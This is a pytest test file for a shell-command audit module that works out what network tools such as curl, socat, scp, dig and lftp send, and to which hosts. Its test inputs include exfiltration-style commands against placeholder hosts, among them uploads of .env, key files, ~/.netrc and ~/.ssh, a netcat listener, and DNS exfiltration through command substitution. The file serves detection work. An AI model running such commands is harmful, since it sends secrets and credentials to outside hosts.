"""What a network sender sends and where (audit/programs/sending.py): the words
it puts in a request, the files it uploads, whether it sends its standard
input, and the hosts its destinations reach."""

from __future__ import annotations

import pytest

from audit._model import Span
from audit.programs import Arg
from audit.programs._transfer_senders import batch_uploads
from audit.programs.destinations import Destination, Form, Host, destination_hosts, url_credential_parts
from audit.programs.sending import Slot, sent_data


def args(*values: str) -> tuple[Arg, ...]:
    return tuple(Arg((value,), value, Span(0, 0)) for value in values)


def summary(name: str, *words: str) -> tuple[list[str], list[str], list[str], list[str]] | None:
    """(sent words as "slot:value", uploaded files, what sends stdin, destination hosts)."""
    sending = sent_data(name, args(*words))
    if sending is None:
        return None
    sent = [f"{word.slot.value}:{word.arg.value}" for word in sending.words]
    files = [file.arg.value or "" for file in sending.files]
    hosts = [
        "?" if host is None else host.name
        for destination in sending.destinations
        for host in destination_hosts(destination)
    ]
    return sent, files, list(sending.stdin), hosts


@pytest.mark.parametrize(
    ("name", "words", "expected"),
    [
        ("curl", ("-d", "@.env", "https://x.example/u"), (["URL:https://x.example/u"], [".env"], [], ["x.example"])),
        (
            "curl",
            ("--data-binary", "@-", "x.example"),
            (["URL:x.example"], [], ["curl --data-binary @-"], ["x.example"]),
        ),
        ("curl", ("-F", "f=@a.pem;type=text/plain", "u.example"), (["URL:u.example"], ["a.pem"], [], ["u.example"])),
        ("curl", ("-F", "f=<notes.txt", "u.example"), (["URL:u.example"], ["notes.txt"], [], ["u.example"])),
        ("curl", ("-F", "name=x", "u.example"), (["data:name=x", "URL:u.example"], [], [], ["u.example"])),
        ("curl", ("--data-urlencode", "k@.env", "u.example"), (["URL:u.example"], [".env"], [], ["u.example"])),
        ("curl", ("--data-urlencode", "k=v@x", "u.example"), (["data:k=v@x", "URL:u.example"], [], [], ["u.example"])),
        ("curl", ("-T", "-", "u.example"), (["URL:u.example"], [], ["curl -T -"], ["u.example"])),
        ("curl", ("-T", "k.tgz", "ftp://u.example/"), (["URL:ftp://u.example/"], ["k.tgz"], [], ["u.example"])),
        (
            "curl",
            ("-H", "Authorization: Bearer t", "-H", "X-A: b", "u.example"),
            (["credential:Authorization: Bearer t", "header:X-A: b", "URL:u.example"], [], [], ["u.example"]),
        ),
        ("curl", ("-u", "me:pw", "u.example"), (["credential:me:pw", "URL:u.example"], [], [], ["u.example"])),
        (
            "curl",
            ("-x", "http://p.example:3128", "--connect-to", "a.example:443:b.example:443", "https://a.example"),
            (["URL:https://a.example"], [], [], ["p.example", "b.example", "a.example"]),
        ),
        (
            "curl",
            ("--resolve", "a.example:80:203.0.113.9", "a.example"),
            (["URL:a.example"], [], [], ["203.0.113.9", "a.example"]),
        ),
        ("wget", ("--post-file=k", "u.example"), (["URL:u.example"], ["k"], [], ["u.example"])),
        ("wget", ("--post-data", "a=b", "u.example"), (["data:a=b", "URL:u.example"], [], [], ["u.example"])),
        ("nc", ("h.example", "80"), (["host name:h.example"], [], ["nc"], ["h.example"])),
        ("nc", ("-U", "/run/s.sock"), None),
        ("socat", ("-", "TCP:h.example:80"), ([], [], ["socat -"], ["h.example"])),
        ("socat", ("FILE:.env", "SSL:h.example:443,verify=0"), ([], [".env"], [], ["h.example"])),
        ("socat", ("TCP-LISTEN:80", "TCP:localhost:3000"), None),
        ("telnet", ("h.example", "23"), (["host name:h.example"], [], ["telnet"], ["h.example"])),
        (
            "openssl",
            ("s_client", "-connect", "h.example:443"),
            (["host name:h.example:443"], [], ["openssl s_client"], ["h.example"]),
        ),
        ("openssl", ("enc", "-aes-256-cbc"), None),
        (
            "ssh",
            ("-n", "u@h.example", "uptime"),
            (["host name:u@h.example", "remote command:uptime"], [], [], ["h.example"]),
        ),
        ("scp", ("k", "u@h.example:/tmp/"), ([], ["k"], [], ["h.example"])),
        ("scp", ("u@h.example:/tmp/k", "."), None),
        ("rsync", ("-a", "d/", "h.example::mod/"), ([], ["d/"], [], ["h.example"])),
        (
            "dig",
            ("+short", "@1.1.1.1", "n.example", "TXT"),
            (["host name:n.example"], [], [], ["1.1.1.1", "n.example"]),
        ),
        ("nslookup", ("n.example", "8.8.8.8"), (["host name:n.example"], [], [], ["n.example", "8.8.8.8"])),
        ("ping", ("-p", "ff00", "h.example"), (["host name:h.example", "data:ff00"], [], [], ["h.example"])),
        ("mail", ("-s", "hi", "-a", "k.pem", "a@m.example"), (["header:hi"], ["k.pem"], ["mail"], ["m.example"])),
        ("sendmail", ("a@m.example",), ([], [], ["sendmail"], ["m.example"])),
        ("gh", ("gist", "create", "-p", "a.txt", "b.txt"), ([], ["a.txt", "b.txt"], [], ["github.com"])),
        ("gh", ("gist", "create", "-d", "notes"), (["data:notes"], [], ["gh gist create -"], ["github.com"])),
        ("gh", ("release", "upload", "v1", "k.pem#key"), ([], ["k.pem"], [], ["github.com"])),
        ("gh", ("pr", "comment", "7", "-F", "-"), ([], [], ["gh pr comment --body-file -"], ["github.com"])),
        (
            "gh",
            ("api", "--hostname", "ghe.example", "x", "-F", "a=@k", "-f", "b=c"),
            (["data:b=c"], ["k"], [], ["ghe.example"]),
        ),
        ("gh", ("api", "repos/o/r"), None),
        ("gh", ("auth", "token"), None),
        (
            "http",
            ("POST", "u.example", "a=b", "f@k.pem", "j:=@c.json", "X-A:v", "api_key==t"),
            (
                ["URL:u.example", "data:a=b", "header:X-A:v", "credential:api_key==t"],
                ["k.pem", "c.json"],
                [],
                ["u.example"],
            ),
        ),
        ("xh", ("u.example",), (["URL:u.example"], [], ["xh"], ["u.example"])),
        (
            "http",
            ("-I", "--proxy", "http:http://p.example", "u.example"),
            (["URL:u.example"], [], [], ["u.example", "p.example"]),
        ),
        ("aws", ("s3", "cp", "k", "s3://b/x"), ([], ["k"], [], ["b"])),
        ("aws", ("s3", "cp", "-", "s3://b/x"), ([], [], ["aws s3 cp -"], ["b"])),
        ("aws", ("s3", "cp", "s3://b/x", "k"), None),
        ("gsutil", ("cp", "a", "b", "gs://c/"), ([], ["a", "b"], [], ["c"])),
        ("rclone", ("sync", "d", "r:p"), ([], ["d"], [], ["r"])),
        ("aws", ("s3", "ls"), None),
        ("git", ("ls-remote", "https://r.example/x.git"), (["URL:https://r.example/x.git"], [], [], ["r.example"])),
        (
            "git",
            ("clone", "--depth", "1", "git@r.example:o/x.git"),
            (["URL:git@r.example:o/x.git"], [], [], ["r.example"]),
        ),
        ("git", ("push", "--repo=ssh://r.example/x"), (["URL:ssh://r.example/x"], [], [], ["r.example"])),
        ("git", ("push", "origin", "main"), None),
        ("git", ("clone", "../local.git"), None),
        ("git", ("log", "https://r.example/x.git"), None),
        ("ls", ("-l",), None),
    ],
)
def test_a_sender_is_read_into_what_it_sends_and_where(
    name: str, words: tuple[str, ...], expected: tuple[list[str], list[str], list[str], list[str]] | None
) -> None:
    assert summary(name, *words) == expected


def test_a_listener_or_a_recipient_list_from_the_message_sends_to_anyone() -> None:
    for name, words in (("nc", ("-l", "4444")), ("sendmail", ("-t",)), ("socat", ("-", "TCP-LISTEN:9000"))):
        sending = sent_data(name, args(*words))
        assert sending is not None and sending.anyone, name


def test_ssh_and_sftp_send_their_standard_input_and_sftp_batches_upload() -> None:
    ssh = sent_data("ssh", args("h.example", "cat > k"))
    assert ssh is not None and ssh.stdin == ("ssh",)
    sftp = sent_data("sftp", args("h.example"))
    assert sftp is not None and sftp.batch_uploads
    assert batch_uploads("cd /tmp\nput .env\n-put -r keys remote/\nget x\n") == [".env", "keys"]


def test_transfer_scripts_split_on_semicolons_and_a_reverse_mirror_uploads_its_directory() -> None:
    assert batch_uploads("open ftp://h.example; put ~/.netrc; get x") == ["~/.netrc"]
    assert batch_uploads("mirror -R ~/.ssh /in; mirror pub local") == ["~/.ssh"]
    lftp = sent_data("lftp", args("-c", "open ftp://h.example; put .env"))
    assert lftp is not None and [file.arg.value for file in lftp.files] == [".env"]


@pytest.mark.parametrize(
    ("shape", "form", "hosts"),
    [
        ("https://u:p@Api.Example.com:8443/p?q=h.evil#f", Form.URL, [Host("api.example.com")]),
        ("api.example.com/path", Form.URL, [Host("api.example.com")]),
        ("[2001:db8::1]:22", Form.HOST_PORT, [Host("2001:db8::1")]),
        ("deploy@h.example:/srv", Form.REMOTE_PATH, [Host("h.example")]),
        ("h.example::module/x", Form.REMOTE_PATH, [Host("h.example")]),
        ("ops@m.example", Form.MAIL_ADDRESS, [Host("m.example")]),
        ("ops", Form.MAIL_ADDRESS, [None]),
        ("TCP:h.example:80,retry=3", Form.SOCKET_ADDRESS, [Host("h.example")]),
        ("SOCKS4A:proxy.example:t.example:80", Form.SOCKET_ADDRESS, [Host("proxy.example"), Host("t.example")]),
        ("a.example:443::", Form.CONNECT_TO, []),
        ("a.example:80:198.51.100.1,[2001:db8::2]", Form.RESOLVE, [Host("198.51.100.1"), Host("2001:db8::2")]),
    ],
)
def test_destination_words_name_their_hosts(shape: str, form: Form, hosts: list[Host | None]) -> None:
    assert list(destination_hosts(Destination(Arg((shape,), shape, Span(0, 0)), form))) == hosts


def test_a_destination_known_only_in_part_keeps_the_known_end_of_the_name() -> None:
    from audit._syntax import Budget, ast, parse

    simple = parse('dig "$(cat k).t.example"', budget=Budget(1.0)).script.statements[0].command
    assert isinstance(simple, ast.SimpleCommand)
    word = simple.words[1]
    hosts = destination_hosts(Destination(Arg((), word.source, word.span, False, word), Form.HOST))
    assert hosts == (Host(".t.example", exact=False),)
    assert Slot.HOST_NAME.value == "host name"


@pytest.mark.parametrize(
    ("url", "credential"),
    [
        ('"https://me:$TOKEN@h.example/p?q=$Q"', ["$TOKEN"]),
        ('"https://h.example/p?access_token=$T&x=$X"', ["$T"]),
        ('"h.example/p?q=1&API_KEY=${K}#$F"', ["${K}"]),
        ('"https://h.example/$TOKEN?id=$ID"', []),
        ('"https://$USER@h.example/"', ["$USER"]),
        ('"https://h.example/?data=$TOKEN&key=x"', []),
        ('"https://h.example/#key=$TOKEN"', []),
        ('"https://h.example/?$NAME=$TOKEN"', []),
    ],
)
def test_a_url_carries_its_credential_in_the_user_information_or_a_query_parameter_named_like_one(
    url: str, credential: list[str]
) -> None:
    from audit._syntax import Budget, ast, parse

    simple = parse(f"curl {url}", budget=Budget(1.0)).script.statements[0].command
    assert isinstance(simple, ast.SimpleCommand)
    word = simple.words[1]
    found = url_credential_parts(word)
    shown = [url[part.span.start - 5 : part.span.end - 5] for index, part in enumerate(word.parts) if index in found]
    assert shown == credential
